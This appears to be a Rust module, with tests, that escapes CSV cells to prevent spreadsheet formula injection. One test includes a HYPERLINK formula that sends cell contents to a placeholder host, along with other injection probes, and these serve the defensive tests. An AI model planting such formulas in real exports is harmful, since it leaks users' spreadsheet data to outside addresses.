//! Cells of exported spreadsheets that stay text.
//!
//! A spreadsheet runs a cell that begins like a formula, whoever typed it: a complaint from the public could open an
//! address or read other cells on an agent's machine. An apostrophe in front makes the cell text in every common
//! spreadsheet program and leaves it readable. Quoting (delimiters, quotes, line breaks) is the CSV writer's own work
//! and comes after.

/// The text as a cell that no spreadsheet runs. Plain numbers stay as they are, so that columns of money still add up;
/// everything else that begins like a formula gets an apostrophe. Undone by [`original_cell`].
#[must_use]
pub fn safe_cell(text: &str) -> String {
    if begins_like_a_formula(text) && !is_number(text) { format!("'{text}") } else { text.to_owned() }
}

/// The text that [`safe_cell`] made a cell of: a file exported here may be imported again unchanged.
#[must_use]
pub fn original_cell(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(text) if begins_like_a_formula(text) => text,
        _ => cell,
    }
}

/// Programs skip leading blanks before they look, and some take full-width signs for the plain ones. Apostrophes are
/// looked through, so that a text which already has one is not taken for a cell made here.
fn begins_like_a_formula(text: &str) -> bool {
    let blank = |c: char| c.is_whitespace() || c.is_control() || matches!(c, '\'' | '\u{feff}' | '\u{200b}');
    text.trim_start_matches('\'').starts_with(['\t', '\r', '\n'])
        || text
            .trim_start_matches(blank)
            .starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠', '\u{2212}'])
}

/// A minus sign and digits with at most one decimal mark: a value, in either convention.
fn is_number(text: &str) -> bool {
    let Some(digits) = text.strip_prefix('-') else { return false };
    let mut parts = digits.split([',', '.']);
    let filled = |part: Option<&str>| {
        part.is_some_and(|part| !part.is_empty() && part.bytes().all(|b| b.is_ascii_digit()))
    };
    let whole = filled(parts.next());
    let fraction = parts.next();
    whole && (fraction.is_none() || filled(fraction)) && parts.next().is_none()
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    /// Field fault BL-52: a formula typed by the public opens as text, and a telephone number still reads.
    #[test]
    fn formulas_become_text() {
        let formula = "=HYPERLINK(\"http://exemplo.invalid?\"&A1,\"abrir\")";
        assert_eq!(safe_cell(formula), format!("'{formula}"));
        assert_eq!(safe_cell("+55 51 0000-0000"), "'+55 51 0000-0000");
        for text in ["-2+3", "@SUM(A1)", "\t=1", " =1", "＝1", "\r\n=1", "-1,2,3", "--1", "\u{feff}=1", "-"]
        {
            assert!(safe_cell(text).starts_with('\''), "{text:?}");
        }
    }

    #[test]
    fn other_text_and_numbers_stay() {
        for text in ["", "João", "1.234,56", "-10,00", "-3.5", "-7", "'nome'", "a=b", "R$ 10"] {
            assert_eq!(safe_cell(text), text);
        }
    }

    proptest! {
        #[test]
        fn nothing_is_lost(text in "['=+@ \t-]{0,3}\\PC{0,10}") {
            let cell = safe_cell(&text);
            prop_assert_eq!(original_cell(&cell), &text);
        }

        #[test]
        fn no_cell_begins_a_formula(text in "[=+@\t\r-]\\PC{0,10}") {
            let cell = safe_cell(&text);
            prop_assert!(cell.starts_with('\'') || is_number(&cell));
        }
    }
}
